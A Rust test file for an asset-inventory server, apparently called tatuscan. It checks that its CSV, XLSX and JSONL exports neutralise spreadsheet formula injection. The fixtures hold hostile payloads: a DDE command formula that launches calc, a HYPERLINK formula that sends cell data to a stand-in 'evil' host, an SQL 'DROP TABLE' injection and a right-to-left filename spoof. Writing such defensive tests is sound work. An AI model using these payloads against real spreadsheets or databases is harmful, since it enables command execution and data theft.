//! Whatever text a machine sends: a file shows it, and does not do it.

use std::sync::Arc;

use calamine::Data;
use tatuscan::model::{Asset, AssetFields, HumanFields, Machine, NOTES_CHARS};
use tatuscan::store::Store;
use tatuscan::store::redb::RedbStore;

use super::{bytes, csv_rows, json_rows, open_to_all, part, sheet_rows};
use crate::support::machines::report;

/// Texts as a store might hold them that another program filled, and what a file shows of them.
fn texts() -> Vec<(String, String)> {
    let long = "ç😀=\"".repeat(NOTES_CHARS / 4);
    let as_it_is = [
        "a\"b",
        "a;b,c|d\te",
        "two\nlines",
        "two\r\nlines",
        "</t></is><f>1+1</f>",
        "<script>&amp;",
        "_x0041_",
        " =1",
        "日本語 😀👩‍👩‍👧 العربية",
        "1e5",
        "0012",
        "2024-01-02",
        "x=1",
        "\\\"",
        "\"",
        "'",
        "Robert'); DROP TABLE inventory;--",
        "\u{202e}gnp.exe",
        "\u{2066}=1\u{2069}",
        "{{7*7}}",
        &long,
    ];
    let shown = [
        ("=1+1", "'=1+1"),
        ("'=1", "''=1"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("=HYPERLINK(\"http://evil/?\"&A1;\"x\")", "'=HYPERLINK(\"http://evil/?\"&A1;\"x\")"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("--1", "'--1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        // As spreadsheets in East Asian languages have them.
        ("\u{ff1d}1+1", "'\u{ff1d}1+1"),
        ("\u{ff0b}1", "'\u{ff0b}1"),
        ("\u{ff0d}1", "'\u{ff0d}1"),
        ("\u{ff20}SUM(A1)", "'\u{ff20}SUM(A1)"),
        ("\0=1", "'=1"),
        ("\u{1}\u{7}+1", "'+1"),
        ("a\0b\u{1b}[31mc\u{ffff}", "ab[31mc"),
    ];
    let as_it_is = as_it_is.iter().map(|text| ((*text).to_owned(), (*text).to_owned()));
    let shown = shown.iter().map(|(text, shown)| ((*text).to_owned(), (*shown).to_owned()));
    as_it_is.chain(shown).collect()
}

fn machine(number: usize, text: &str) -> Machine {
    let kept = AssetFields {
        notes: Some(text.into()),
        site: Some(text.into()),
        owner: Some(text.into()),
        ..AssetFields::default()
    };
    let mut machine = Machine::first_seen(report(&format!("m{number:03}"), 0));
    machine.hostname = text.into();
    machine.ip = text.into();
    machine.os = text.into();
    machine.os_version = text.into();
    machine.human = HumanFields {
        computer_model: Some(text.into()),
        asset: Asset::from(kept),
        ..HumanFields::default()
    };
    machine
}

const TEXTS: [&str; 8] =
    ["hostname", "ip", "os", "os_version", "computer_model", "site", "owner", "notes"];

#[tokio::test]
async fn no_text_becomes_a_formula_another_cell_or_markup() {
    let directory = tempfile::tempdir().unwrap();
    let store = Arc::new(RedbStore::open(&directory.path().join("tatuscan.redb")).unwrap());
    let texts = texts();
    let machines = texts.iter().enumerate().map(|(number, (text, _))| machine(number, text));
    store.import_machines(machines.collect()).await.unwrap();
    let server = open_to_all(store).await;
    let columns = format!("columns=machine_id,{}", TEXTS.join(","));
    let number = |id: &str| id[1..].parse::<usize>().unwrap();

    for (lang, delimiter) in [("pt-BR", ";"), ("en", ","), ("es", "%09"), ("en", "%7C")] {
        let path = format!("/api/export/machines.csv?{columns}&lang={lang}&delimiter={delimiter}");
        let separator = match delimiter {
            "%09" => b'\t',
            "%7C" => b'|',
            other => other.as_bytes()[0],
        };
        let rows = csv_rows(&bytes(&server, &path).await, separator);
        assert_eq!(rows.len(), texts.len() + 1);
        for row in &rows[1..] {
            let (_, shown) = &texts[number(&row[0])];
            assert!(row[1..].iter().all(|cell| cell == shown), "{row:?}");
            assert!(row.iter().all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])));
        }
    }

    let file = bytes(&server, &format!("/api/export/machines.xlsx?{columns}")).await;
    let rows = sheet_rows(&file);
    assert_eq!(rows.len(), texts.len() + 1);
    for row in &rows[1..] {
        let Data::String(id) = &row[0] else { panic!("{row:?}") };
        // Readers of XML know one end of a line.
        let shown = texts[number(id)].1.replace("\r\n", "\n").replace('\r', "\n");
        for cell in &row[1..] {
            let Data::String(text) = cell else { panic!("{cell:?} is no text") };
            assert_eq!(text.replace("\r\n", "\n").replace('\r', "\n"), shown);
        }
    }
    let sheet = part(&file, "xl/worksheets/sheet1.xml");
    assert!(!sheet.contains("<f>") && !sheet.contains("<f ") && !sheet.contains("hyperlink"));

    let file = bytes(&server, "/api/export/machines.jsonl").await;
    let list = server.get("/api/machines").await.1;
    assert_eq!(json_rows(&file), *list["items"].as_array().unwrap());
    server.stop().await;
}

#[tokio::test]
async fn the_name_of_a_field_is_no_formula_either() {
    let server = crate::support::server::Server::start().await;
    let field = serde_json::json!({
        "key": "x", "type": "text", "labels": {"pt-BR": "=1;\"2\"", "en": "@x"},
    });
    let made = server.client.post(server.url("/api/fields")).json(&field).send().await.unwrap();
    assert_eq!(made.status(), 200);
    let csv = bytes(&server, "/api/export/machines.csv?columns=custom.x").await;
    assert_eq!(csv_rows(&csv, b';'), [["'=1;\"2\""]]);
    let book = bytes(&server, "/api/export/machines.xlsx?columns=custom.x&lang=en").await;
    assert_eq!(sheet_rows(&book), [[Data::String("'@x".into())]]);
    // Without a name in Spanish it is the key.
    let csv = bytes(&server, "/api/export/machines.csv?columns=custom&lang=es").await;
    assert_eq!(csv_rows(&csv, b';'), [["x"]]);
}
